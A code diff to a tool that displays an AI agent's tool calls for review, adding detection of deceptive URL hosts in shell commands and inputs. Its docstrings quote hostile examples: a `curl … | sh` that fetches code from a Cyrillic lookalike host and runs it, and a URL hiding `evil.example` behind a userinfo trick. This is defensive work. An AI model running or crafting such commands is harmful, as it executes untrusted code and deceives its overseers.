@@ -12,6 +12,7 @@ from __future__ import annotations
 import difflib
 import json
 import re
+import shlex
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
 from typing import Annotated, Any, Literal
@@ -262,7 +263,7 @@ def is_cut(
 def tool_view(use: ToolUse, *, keep_input: bool = False) -> ToolView:
     """The call as people know it; a tool askbridge does not know shows its input as fields.
     `keep_input`: the view keeps the input and working directory, for people to change."""
-    shown = _readable(_shown(use))
+    shown = _readable(_with_hosts(_shown(use), use))
     if keep_input:
         return shown.model_copy(update={"asked": dict(use.input), "cwd": use.cwd})
     return shown
@@ -616,10 +617,50 @@ def _bash(use: ToolUse) -> ToolView:
 
 
 def _web_fetch(use: ToolUse) -> ToolView:
-    shown = _named(use, "Fetch a web page", (("URL", "url"), ("Prompt", "prompt")))
-    url = use.input.get("url")
-    notes = _reached(url) if isinstance(url, str) else ()
-    return shown.model_copy(update={"parts": (*shown.parts, *notes)})
+    return _named(use, "Fetch a web page", (("URL", "url"), ("Prompt", "prompt")))
+
+
+_URL_IN_TEXT = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*://\S*")
+_AFTER_URL = ".,;:!?)]}>'\""
+"""What ends a sentence or a quotation a URL stands in, rather than the URL."""
+
+
+def _with_hosts(view: ToolView, use: ToolUse) -> ToolView:
+    """`view` with what each URL in the call's input hides of where it goes (`_reached`): a
+    WebFetch's URL, one in a command as the shell hands it on (`curl https://\u0430pple.com/x |
+    sh`, a Cyrillic a), one in an argument or a file's new text; each note once."""
+    notes: dict[Note, None] = {}
+    for key, text in _strings(use.input):
+        shell = use.name == "Bash" and key == "command"
+        for word in _shell_words(text) if shell else text.split():
+            if (found := _URL_IN_TEXT.search(word)) is not None:
+                notes.update(dict.fromkeys(_reached(found.group().rstrip(_AFTER_URL))))
+    return view.model_copy(update={"parts": (*view.parts, *notes)}) if notes else view
+
+
+def _strings(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
+    """Every string in a tool's input, with the top-level key it is under."""
+    if isinstance(value, str):
+        yield key, value
+    elif isinstance(value, Mapping):
+        for name, item in value.items():
+            yield from _strings(item, key or str(name))
+    elif isinstance(value, list):
+        for item in value:
+            yield from _strings(item, key)
+
+
+def _shell_words(command: str) -> list[str]:
+    """`command`'s words as a shell hands them on, quotes and escapes taken away
+    (`"https://github.com"@evil.example` is one word), its operators (`|`, `;`) words of their
+    own; split at white space only when quotes do not pair up (a here-document's `don't`)."""
+    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    lexer.commenters = ""
+    try:
+        return list(lexer)
+    except ValueError:
+        return command.split()
 
 
 _PLAIN_URL = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*://[^\\\s%]*")
